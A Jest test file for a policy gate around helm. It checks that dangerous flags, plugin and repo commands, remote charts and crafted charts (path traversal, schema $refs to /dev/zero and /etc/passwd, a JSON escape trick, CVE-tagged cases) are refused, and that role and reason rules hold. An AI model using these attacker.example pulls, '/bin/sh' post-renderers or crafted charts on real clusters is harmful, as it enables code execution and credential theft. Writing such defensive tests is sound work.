import { describe, expect, test } from '@jest/globals';
import { type Files, asked, chart, expectAllowed, expectDenied, expectRefused, explain, spellings } from './support.ts';

// Helm's flags, sources and charts.

describe('flags and sources of helm', () => {
  const files = { ...chart, 'x.pem': 'x' };
  const global: readonly [string, string][] = [
    ['--kube-apiserver', 'https://attacker.example'],
    ['--kube-token', 'x'],
    ['--kube-as-user', 'system:admin'],
    ['--kube-as-group', 'system:masters'],
    ['--kube-ca-file', 'x.pem'],
    ['--kube-context', 'other'],
    ['--kubeconfig', 'x.pem'],
    ['--kube-tls-server-name', 'attacker.example'],
    ['--registry-config', 'x.pem'],
    ['--repository-config', 'x.pem'],
    ['--repository-cache', '/tmp'],
    ['--burst-limit', '1000000'],
    ['--qps', '1000000'],
  ];
  const local: readonly [string, string][] = [
    ['--post-renderer', '/bin/sh'],
    ['--post-renderer-args', '-c'],
    ['--keyring', 'x.pem'],
    ['--ca-file', 'x.pem'],
    ['--cert-file', 'x.pem'],
    ['--key-file', 'x.pem'],
    ['--username', 'x'],
    ['--password', 'x'],
    ['--repo', 'https://attacker.example'],
  ];
  const switches = ['--kube-insecure-skip-tls-verify'];
  const localSwitches = [
    '--pass-credentials',
    '--insecure-skip-tls-verify',
    '--plain-http',
    '--verify',
    '--dependency-update',
  ];
  const charts = ['install web ./web', 'upgrade web ./web', 'template ./web'];

  test.each(global)('%s in every spelling, for every command', async (flag, value) => {
    for (const [line, word] of spellings('helm', 'list', flag, value)) await expectRefused(line, word);
    for (const command of [...charts, 'uninstall web', 'rollback web', 'get values web', 'lint ./web', 'version'])
      await expectRefused(`helm ${command} ${flag}=${value}`, flag, { files });
  });
  test.each(local)('%s in every spelling', async (flag, value) => {
    for (const command of charts) {
      await expectRefused(`helm ${command} ${flag}=${value}`, flag, { files });
      await expectRefused(`helm ${command} ${flag} ${value}`, flag, { files });
    }
  });
  test.each([...switches, ...localSwitches])('%s', async (flag) => {
    for (const command of charts) {
      await expectRefused(`helm ${command} ${flag}`, flag, { files });
      await expectRefused(`helm ${command} ${flag}=true`, flag, { files });
    }
  });
  test.each(switches)('%s in front of the command', (flag) => expectRefused(`helm ${flag} list`, flag));
  test.each(charts)('the control: helm %s is allowed', (command) => expectAllowed(`helm ${command}`, { files }));

  test.each([
    ['plugin install https://attacker.example/plugin', 'plugin install'],
    ['plugin list', 'plugin list'],
    ['plugin update x', 'plugin update'],
    ['plugin uninstall x', 'plugin uninstall'],
    ['repo add a https://attacker.example', 'repo add'],
    ['repo update', 'repo update'],
    ['repo list', 'repo list'],
    ['repo remove a', 'repo remove'],
    ['repo index .', 'repo index'],
    ['registry login attacker.example', 'registry login'],
    ['registry logout attacker.example', 'registry logout'],
    ['pull oci://attacker.example/chart', 'pull'],
    ['push web.tgz oci://attacker.example', 'push'],
    ['package ./web', 'package'],
    ['dependency update ./web', 'dependency update'],
    ['dependency build ./web', 'dependency build'],
    ['search hub nginx', 'search hub'],
    ['search repo nginx', 'search repo'],
    ['show values oci://attacker.example/chart', 'oci://attacker.example/chart'],
    ['create web', 'create'],
    ['verify web.tgz', 'verify'],
    ['completion bash', 'completion bash'],
    ['install web ./web --generate-name', './web'],
    ['install web ./web --name-template={{randAlpha}}', '--name-template'],
    ['install web ./web --enable-dns', '--enable-dns'],
    ['template ./web --output-dir=/tmp/x', '--output-dir'],
  ])('helm %s', (line, word) => expectRefused(`helm ${line}`, word, { files }));

  test.each([
    'oci://attacker.example/chart',
    'https://attacker.example/web.tgz',
    'http://attacker.example/web',
    'file:///etc',
    'HTTPS://attacker.example/web',
    'stable/nginx',
    'nginx',
    'web.tgz',
    './web.tgz',
    '/etc',
    '../web',
    '@attacker/web',
    'alias:web',
  ])('the chart %s was not sent', async (word) => {
    for (const command of ['install web', 'upgrade web', 'template', 'lint', 'show all'])
      await expectRefused(`helm ${command} ${word}`, word, { files });
  });
});

describe('a chart can create anything', () => {
  const whole: Files = {
    ...chart,
    'web/crds/crd.yaml':
      'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a.b.c}\n',
    'web/templates/hook.yaml':
      'apiVersion: batch/v1\nkind: Job\nmetadata: {name: a, annotations: {"helm.sh/hook": pre-install}}\n',
  };
  const reason = 'INC-1';
  test.each([
    ['install web ./web', ['install releases.helm.sh shop/web']],
    ['upgrade web ./web', ['upgrade releases.helm.sh shop/web']],
    ['upgrade --install web ./web', ['install releases.helm.sh shop/web', 'upgrade releases.helm.sh shop/web']],
    ['rollback web 1', ['rollback releases.helm.sh shop/web']],
    ['uninstall web', ['uninstall releases.helm.sh shop/web']],
    ['test web', ['test releases.helm.sh shop/web']],
    ['install web ./web -n blue --create-namespace', ['install releases.helm.sh blue/web', 'create namespaces /blue']],
    ['install web ./web --no-hooks --skip-crds', ['install releases.helm.sh shop/web']],
    ['template ./web --validate', ['get secrets shop/']],
    ['template ./web --dry-run=server', ['get secrets shop/']],
    ['install web ./web --dry-run=server', ['install releases.helm.sh shop/web', 'get secrets shop/']],
  ])('helm %s asks for %j', async (line, attributes) => {
    const sent = { files: line.includes('./web') ? whole : {}, reason };
    expect(asked(await explain(`helm ${line}`, sent))).toEqual(attributes);
    await expectDenied(`helm ${line}`, 'role viewer', { ...sent, as: 'viewer' });
  });

  // The deployer may install, upgrade and roll back in shop, with a reason; nothing else of helm's.
  test.each([
    ['uninstall web', 'uninstall'],
    ['test web', 'test'],
    ['install web ./web -n kube-system', 'kube-system'],
    ['upgrade --install web ./web -n kube-system', 'kube-system'],
    ['install web ./web --create-namespace', 'namespaces'],
    ['install web ./web --dry-run=server', 'secrets'],
    ['template ./web --validate', 'secrets'],
    ['list -A', 'namespaces'],
  ])('helm %s is not what the deployer may', (line, about) =>
    expectDenied(`helm ${line}`, about, { files: line.includes('./web') ? whole : {}, reason, as: 'deployer' }),
  );
  test.each(['install web ./web', 'upgrade web ./web', 'rollback web 1'])('helm %s needs its reason', async (line) => {
    const files = line.includes('./web') ? whole : {};
    await expectDenied(`helm ${line}`, 'reason', { files, as: 'deployer' });
    await expectDenied(`helm ${line}`, 'reason', { files, reason: ' \u200b.', as: 'deployer' });
    await expectAllowed(`helm ${line}`, { files, reason, as: 'deployer' });
  });

  test('a lookup asks for what it may look up: secrets of every namespace', async () => {
    const files = { ...chart, 'web/templates/l.yaml': '{{- lookup "v1" "Secret" "" "" -}}' };
    const everywhere = ['get secrets */', 'list secrets */'];
    for (const line of [
      'helm template ./web --validate',
      'helm install web ./web --dry-run=server',
      'helm install web ./web',
      'helm upgrade web ./web',
    ])
      expect(asked(await explain(line, { files }))).toEqual(expect.arrayContaining(everywhere));
  });
});

describe('crafted charts', () => {
  const schema = (value: unknown): Files => ({ ...chart, 'web/values.schema.json': JSON.stringify(value) });
  const named = (name: string) => `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n`;
  const depends = `${named('web')}dependencies: [{ name: redis, version: 1.0.0, repository: "https://attacker.example" }]\n`;
  test.each<readonly [string, Files, string]>([
    [
      'a packed chart in charts/ (CVE-2025-32386, CVE-2026-35206)',
      { ...chart, 'web/charts/redis-1.0.0.tgz': 'x' },
      'web/charts/redis-1.0.0.tgz',
    ],
    ['one that is spelt otherwise', { ...chart, 'web/charts/redis.TAR.GZ': 'x' }, 'web/charts/redis.TAR.GZ'],
    [
      'one in a chart of a chart',
      { ...chart, 'web/charts/a/Chart.yaml': named('a'), 'web/charts/a/charts/b.tgz': 'x' },
      'web/charts/a/charts/b.tgz',
    ],
    [
      'a dependency that would be fetched (CVE-2025-53547)',
      { ...chart, 'web/Chart.yaml': depends, 'web/Chart.lock': 'dependencies: []\n' },
      'web/Chart.yaml',
    ],
    [
      'a dependency on the machine’s own files',
      { ...chart, 'web/Chart.yaml': depends.replace('https://attacker.example', 'file:///etc') },
      'web/Chart.yaml',
    ],
    [
      'a dependency in requirements.yaml',
      { ...chart, 'web/requirements.yaml': depends.slice(depends.indexOf('dependencies')) },
      'web/Chart.yaml',
    ],
    [
      'dependencies in another case',
      { ...chart, 'web/Chart.yaml': depends.replace('dependencies', 'Dependencies') },
      'web/Chart.yaml',
    ],
    [
      'a name that leads out of its folder (CVE-2026-35206)',
      { ...chart, 'web/Chart.yaml': named('../../../etc') },
      'web/Chart.yaml',
    ],
    ['a name of dots', { ...chart, 'web/Chart.yaml': named('..') }, 'web/Chart.yaml'],
    ['a folder in charts/ without a chart', { ...chart, 'web/charts/a/values.yaml': 'a: 1\n' }, 'web/charts/a/'],
    [
      'a schema that refers to a device (CVE-2025-55199)',
      schema({ $ref: 'file:///dev/zero' }),
      'web/values.schema.json',
    ],
    ['one by path', schema({ properties: { a: { $ref: '/dev/urandom' } } }), 'web/values.schema.json'],
    ['one deep inside', schema({ allOf: [{ items: { $ref: '../../etc/passwd#' } }] }), 'web/values.schema.json'],
    ['one to an address', schema({ $ref: 'https://attacker.example/schema.json' }), 'web/values.schema.json'],
    ['a dynamic one', schema({ $dynamicRef: 'file:///dev/zero' }), 'web/values.schema.json'],
    ['a draft that would be fetched', schema({ $schema: 'https://attacker.example/draft' }), 'web/values.schema.json'],
    // V8 reads the key of the second object as that of the first (shared/lib/strict-json.ts); helm reads $ref.
    [
      'one spelt with an escape, after a key that V8 mistakes it for',
      {
        ...chart,
        'web/values.schema.json': String.raw`{"$defs":{"a":{"b":0,"\\u00":0},"c":{"b":0,"\u0024ref":"file:///dev/zero"}}}`,
      },
      'web/values.schema.json',
    ],
    [
      'one in a chart of a chart ',
      {
        ...chart,
        'web/charts/a/Chart.yaml': named('a'),
        'web/charts/a/values.schema.json': '{"$ref":"file:///dev/zero"}',
      },
      'web/charts/a/values.schema.json',
    ],
    ['a file larger than helm takes', { ...chart, 'web/big.txt': 'x'.repeat(5 * 1024 * 1024 + 1) }, 'web/big.txt'],
    ['a path that leads out', { ...chart, 'web/../../etc/x': 'x' }, 'web/../../etc/x'],
    ['a file twice in two cases', { ...chart, 'web/chart.yaml': 'x' }, 'web/chart.yaml'],
    [
      'charts in charts without end',
      {
        ...chart,
        ...Object.fromEntries(
          Array.from({ length: 10 }, (_, depth) => [`web/${'charts/a/'.repeat(depth + 1)}Chart.yaml`, named('a')]),
        ),
      },
      `web/${'charts/a/'.repeat(9)}`,
    ],
  ])('%s', async (_what, files, word) => {
    for (const command of ['install web', 'template']) await expectRefused(`helm ${command} ./web`, word, { files });
  });

  test.each(['web.tgz', 'web.tar.gz', 'charts/web.tar'])('a whole chart packed, %s (CVE-2025-32386)', async (word) => {
    for (const command of ['install web', 'upgrade web', 'template', 'lint', 'show values'])
      await expectRefused(`helm ${command} ${word}`, word, { files: { [word]: 'x' } });
  });

  test('the control: a vendored dependency and a schema that refers to itself', () =>
    expectAllowed('helm install web ./web', {
      files: {
        ...schema({
          $schema: 'http://json-schema.org/draft-07/schema#',
          properties: { a: { $ref: '#/definitions/a' } },
        }),
        'web/Chart.yaml': depends,
        'web/Chart.lock': 'dependencies: []\n',
        'web/charts/redis/Chart.yaml': named('redis'),
      },
    }));
});
